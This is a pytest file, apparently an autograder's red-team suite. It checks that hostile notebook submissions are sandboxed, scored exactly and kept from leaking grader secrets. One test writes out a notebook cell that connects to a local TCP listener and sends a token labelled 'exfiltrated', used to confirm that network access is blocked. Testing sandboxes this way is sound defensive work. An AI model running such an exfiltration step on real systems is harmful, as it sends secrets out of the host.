"""The red-team suite: hostile and broken submissions, each with its exact verdict.

Every hostile case runs under both sandboxes. What only bubblewrap can stop
(the network, files outside the sandbox) is asserted under bwrap; under a
plain process the report must say that the guarantee is weaker.
"""

from __future__ import annotations

import json
import os
import socket
import threading

import nbformat
import psutil
import pytest

from autograder.grading import grade
from autograder.options import Options
from autograder.reports import report_dir, write_all
from tests import redteam
from tests.kernels import kinds_available
from tests.notebooks import append_cells, solution

pytestmark = pytest.mark.slow

KINDS = kinds_available()
OPTIONS = {"limits": redteam.LIMITS}


@pytest.fixture(scope="module", autouse=True)
def grader_secrets():
    """Secrets in the grader's environment, as a CI runner would have them."""
    saved = {k: os.environ.get(k) for k in redteam.environment_secret()}
    os.environ.update(redteam.environment_secret())
    yield redteam.environment_secret()
    for key, value in saved.items():
        if value is None:
            os.environ.pop(key, None)
        else:
            os.environ[key] = value


@pytest.fixture(scope="module")
def alice(tmp_path_factory):
    """Alice's honest scores under each sandbox (the verdict of the cheating cases)."""
    scores = {}
    for kind in KINDS:
        report = grade(redteam.ALICE, Options(sandbox=kind, **OPTIONS))
        assert report.status == "graded"
        scores[kind] = {q.id: q.score for q in report.questions}
    return scores


def _grade(nb, tmp_path, kind):
    path = tmp_path / "submission.ipynb"
    nbformat.write(nb, path)
    report = grade(path, Options(sandbox=kind, **OPTIONS))
    folder = write_all(report, report_dir(tmp_path / "out", path))
    data = json.loads((folder / "report.json").read_text())
    text = "\n".join(p.read_text(errors="replace") for p in sorted(folder.iterdir()))
    return data, text


def _alive(marker: str) -> list[int]:
    found = []
    for proc in psutil.process_iter(["cmdline", "status"]):
        try:
            if proc.info["status"] != psutil.STATUS_ZOMBIE and marker in " ".join(
                proc.info["cmdline"] or []
            ):
                found.append(proc.pid)
        except (psutil.Error, TypeError):
            continue
    return found


def _no_leak(text: str, nb) -> None:
    """No secret of the grader, and no solution line the submission did not write itself."""
    assert redteam.SECRET not in text
    assert os.environ["GITHUB_TOKEN"] not in text
    own = {line.strip() for cell in nb.cells for line in cell.source.splitlines()}
    leaked = [line for line in redteam.solution_lines() - own if line in text]
    assert leaked == []


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("case", redteam.HOSTILE, ids=lambda c: c.name)
def test_hostile_submission_gets_exactly_what_its_code_earns(case, kind, tmp_path, alice):
    if case.bwrap_only and kind != "bwrap":
        pytest.skip(
            "under a plain process this attack reaches the grader's machine; only bwrap stops it"
        )
    redteam.canary_cleanup(case.canaries)
    nb = case.notebook()
    data, text = _grade(nb, tmp_path, kind)
    try:
        # the report exists, says how it was graded, and kept to the limits
        assert data["status"] == "graded", data["error"]
        assert data["sandbox"]["kind"] == kind
        assert data["timing"]["total_s"] <= redteam.LIMITS["total_timeout_s"] + 30
        questions = {q["id"]: q for q in data["questions"]}
        if case.like_alice:
            assert {q: v["score"] for q, v in questions.items()} == alice[kind]
        else:
            for qid, q in questions.items():
                if qid in case.lost:
                    assert q["score"] < q["max_score"], qid
                else:
                    assert q["score"] == q["max_score"], (qid, [c["feedback"] for c in q["checks"]])
        errors = data["notebook"]["errors"]
        if case.cell_error:
            assert any(case.cell_error in (e["error"] or "") for e in errors), errors
        if case.restarts is not None:
            assert data["notebook"]["kernel_restarts"] == case.restarts
        if case.flag:
            assert any(case.flag in f for f in data["flags"]), data["flags"]
        for qid, fragment in case.feedback.items():
            failed = [c["feedback"] for c in questions[qid]["checks"] if c["status"] != "passed"]
            assert any(fragment in f for f in failed), failed
        # nothing leaked into any report file, nothing survived, nothing outside changed
        _no_leak(text, nb)
        if case.process_marker:
            assert _alive(case.process_marker) == []
        if kind == "bwrap":
            assert [c for c in case.canaries if os.path.exists(c)] == []
        else:
            assert data["sandbox"]["filesystem"].startswith(
                "shared"
            )  # the weaker guarantee, stated
    finally:
        redteam.canary_cleanup(case.canaries)


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(1024))
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(2)
    server.close()


@pytest.mark.parametrize("kind", KINDS)
def test_a_submission_cannot_reach_a_server_on_the_grading_machine(kind, tmp_path, listener):
    port, received = listener
    nb = append_cells(
        solution(),
        (
            "import socket\n"
            f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
            f"s.sendall(b'exfiltrated {redteam.TOKEN}')\n"
            "s.close()\n"
        ),
    )
    data, text = _grade(nb, tmp_path, kind)
    assert data["status"] == "graded" and data["score"] == data["max_score"]
    if kind == "bwrap":
        assert received == []
        assert data["sandbox"]["network"] is False
        error = data["notebook"]["errors"][-1]["error"]
        assert "unreachable" in error or "refused" in error
    else:
        assert data["sandbox"]["network"] is True  # the weaker guarantee, stated in the report


@pytest.mark.parametrize("case", redteam.BROKEN, ids=lambda c: c.name)
def test_broken_input_gets_a_clear_sentence_and_a_report(case, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    path = case.write(folder)
    report = grade(path, Options(**OPTIONS))
    out = write_all(report, report_dir(tmp_path / "out", path))
    data = json.loads((out / "report.json").read_text())
    md = (out / "report.md").read_text()
    if case.sentence is None:
        assert data["status"] == "graded", data["error"]
        assert data["score"] == 100.0
        if case.note:
            assert any(case.note in n for n in data["notes"]), data["notes"]
        return
    assert data["status"] == "rejected"
    assert case.sentence in data["error"], data["error"]
    assert data["error"].endswith(".") and "Traceback" not in data["error"]
    assert data["score"] == 0 and data["questions"] == []
    assert "Status: rejected" in md and case.sentence in md
    assert {p.name for p in out.iterdir()} >= {
        "report.json",
        "report.md",
        "report.html",
        "results.json",
    }
